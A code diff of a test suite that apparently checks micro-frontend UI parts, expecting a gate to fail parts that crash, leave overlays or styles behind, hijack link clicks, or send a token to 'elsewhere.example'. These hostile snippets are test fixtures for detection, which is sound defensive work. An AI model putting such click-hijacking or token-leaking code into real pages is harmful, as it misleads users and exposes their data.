@@ -138,43 +138,61 @@ describe('a build with a screen that', () => {
   );
 });
 
-describe('a part for the account page', () => {
-  /** A build of mf-point with a part there. */
-  function withPart(code: string): Promise<Report> {
-    const build = samples.point([GOOD, code]);
+describe('a part for another screen', () => {
+  /** A build of mf-point with these parts in each place, and what is found there. */
+  async function withParts(places: Readonly<Record<string, readonly string[]>>) {
+    const offered = Object.entries(places).flatMap(([slot, codes]) => codes.map((code) => ({ slot, code })));
+    const build = samples.point([GOOD, ...offered.map(({ code }) => code)]);
     const [first] = build.record.screens;
-    const slots = [{ slot: 'account.rows', module: './Screen1', order: 10, audience: 'member' }];
     if (!first) throw new Error('the build has no screen');
-    const screens = [{ ...first, slots }];
-    const { 'mf-point': point, 'mf-account': account } = samples.live.remotes;
-    if (!point || !account) throw new Error('mf-point and mf-account are not published');
-    const remotes = { 'mf-point': point, 'mf-account': account };
-    const candidate = { ...build, record: { ...build.record, screens } };
-    return samples.ask([candidate], { ...samples.live, remotes });
+    const slots = offered.map(({ slot }, index) => ({
+      ...{ slot, module: `./Screen${index + 1}` },
+      ...{ order: index, audience: 'member' },
+    }));
+    const { 'mf-point': point, 'mf-account': account, 'mf-order': order } = samples.live.remotes;
+    if (!point || !account || !order) throw new Error('mf-point, mf-account and mf-order are not published');
+    const remotes = { 'mf-point': point, 'mf-account': account, 'mf-order': order };
+    const candidate = { ...build, record: { ...build.record, screens: [{ ...first, slots }] } };
+    const { outcome, screens, heldBack } = await samples.ask([candidate], { ...samples.live, remotes });
+    const found = (path: string) =>
+      screens.find((screen) => screen.path === path)?.findings.map(({ kind, text }) => `${kind}: ${text}`);
+    return { outcome, account: found('/account'), receipt: found('/order'), heldBack };
   }
+  const matching = (...told: RegExp[]) => expect.arrayContaining(told.map((one) => expect.stringMatching(one)));
   const PART = "return React.createElement('p', null, '내 카드');";
 
   // B-gate-11
   it('is looked at in its place, and passes', async () => {
-    const report = await withPart(PART);
-    expect(report.screens).toMatchObject([
-      { path: '/gate-0', findings: [] },
-      { path: '/account', findings: [] },
-    ]);
+    const code = `once(() => fetch('/service/card', { method: 'POST', body: '{}' })); ${PART}`;
+    const said = await withParts({ 'account.rows': [PART], 'order.receipt': [code] });
+    expect(said).toMatchObject({ outcome: 'passed', account: [], receipt: [] });
+    expect(said.heldBack).toContain('POST /service/card');
   });
 
   // B-gate-11
-  it.each([
-    ['breaks', /^exception|^console/, "throw new Error('a part that breaks');"],
-    [
-      'leaves an overlay',
-      /^node: it leaves <div#veil>/,
-      `once(() => { const veil = document.createElement('div'); veil.id = 'veil'; document.body.append(veil); }); ${PART}`,
-    ],
-  ])('that %s does not pass', async (_fault, told, code) => {
-    const { outcome, screens } = await withPart(code);
-    const found = screens.find(({ path }) => path === '/account')?.findings.map(({ kind, text }) => `${kind}: ${text}`);
-    expect([outcome, found]).toEqual(['failed', expect.arrayContaining([expect.stringMatching(told)])]);
+  it('that breaks does not pass', async () => {
+    const code = "throw new Error('a part that breaks');";
+    const said = await withParts({ 'account.rows': [code], 'order.receipt': [code] });
+    const told = matching(/^exception|^console/);
+    expect(said).toMatchObject({ outcome: 'failed', account: told, receipt: told });
+  });
+
+  // B-gate-11
+  it('that leaves something behind, takes presses or sends elsewhere does not pass', async () => {
+    const overlay = `once(() => { const veil = document.createElement('div'); veil.id = 'veil'; document.body.append(veil); }); ${PART}`;
+    const sheet = `once(() => { const style = document.createElement('style'); document.head.append(style); style.sheet.insertRule('footer { color: red }'); }); ${PART}`;
+    const thief = `once(() => addEventListener('click', (event) => { if (event.target.closest('a')) { event.stopImmediatePropagation(); event.preventDefault(); } }, true)); ${PART}`;
+    const sender = `return React.createElement('button', { type: 'button', onClick: () => void window.open('https://elsewhere.example/?token=1') }, '카드 보내기');`;
+    const said = await withParts({ 'account.rows': [overlay], 'order.receipt': [sheet, thief, sender] });
+    expect(said).toMatchObject({
+      outcome: 'failed',
+      account: matching(/^node: it leaves <div#veil>/),
+      receipt: matching(
+        /^style: it leaves <style> with "footer/,
+        /^click: a press on the shop's link to \/\S+ leads nowhere/,
+        /^origin: after a press.* https:\/\/elsewhere\.example\/ with data in it/,
+      ),
+    });
   });
 });
 
